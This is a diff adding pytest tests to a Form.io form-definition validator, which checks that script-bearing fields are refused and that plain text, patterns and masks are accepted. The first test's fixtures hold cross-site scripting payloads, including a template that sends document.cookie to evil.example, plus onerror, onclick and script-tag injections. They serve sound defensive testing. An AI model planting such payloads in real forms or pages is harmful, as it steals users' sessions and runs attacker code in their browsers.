@@ -332,3 +332,41 @@ def test_validating_against_a_refused_definition_raises() -> None:
     with pytest.raises(DefinitionError) as raised:
         validate_submission(form(field("textfield", "a", validate={"custom": "valid = false"})), {"a": "x"})
     assert [error.path for error in raised.value.errors] == ["/components/0/validate/custom"]
+
+
+def test_what_would_run_in_the_browser_is_refused_where_it_is() -> None:
+    """Form.io evaluates templates as JavaScript, writes `attrs` onto elements and shows labels, descriptions and
+    messages as HTML, in every browser that renders the form."""
+    definition = form(
+        field("textfield", "name", label="Όνομα {{ fetch('//evil.example?c=' + document.cookie) }}"),
+        field(
+            "textfield", "afm", description="<img src=x onerror=alert(1)>", attrs=[{"attr": "onfocus", "value": "x"}]
+        ),
+        field("number", "copies", validate={"customMessage": "<b>Λάθος</b>"}, errors={"required": "{% print(1) %}"}),
+        field("select", "kind", data={"values": [{"label": "<script>x</script>", "value": "a"}]}),
+        {"type": "content", "key": "intro", "html": '<p onclick="steal()">Οδηγίες</p>', "input": False},
+        {"type": "htmlelement", "key": "note", "tag": "script", "content": "", "input": False},
+    )
+
+    assert sorted(refusals(definition)) == sorted([
+        ("/components/0/label", "template"),
+        ("/components/1/description", "markup"),
+        ("/components/1/attrs", "raw_attributes"),
+        ("/components/2/validate/customMessage", "markup"),
+        ("/components/2/errors/required", "template"),
+        ("/components/3/data/values/0/label", "markup"),
+        ("/components/4/html", "unsafe_html"),
+        ("/components/5/tag", "unsafe_html"),
+    ])  # fmt: skip
+
+
+def test_plain_text_simple_html_patterns_and_masks_are_accepted() -> None:
+    definition = form(
+        field("textfield", "name", label="Όνομα < 50 χαρακτήρες", description="π.χ. Ελένη & Νίκος"),
+        field("textfield", "code", validate={"pattern": "^(?<year>\\d{4})-[A-Z]{2,3}$"}),
+        field("phoneNumber", "phone", inputMask="(999) 999-9999"),
+        {"type": "content", "key": "intro", "input": False,
+         "html": '<p>Διαβάστε τις <a href="https://www.gov.gr">οδηγίες</a> πριν <strong>υποβάλετε</strong>.</p>'},
+        {"type": "htmlelement", "key": "note", "tag": "h3", "content": "Στοιχεία αιτούντος", "input": False},
+    )  # fmt: skip
+    assert refusals(definition) == []
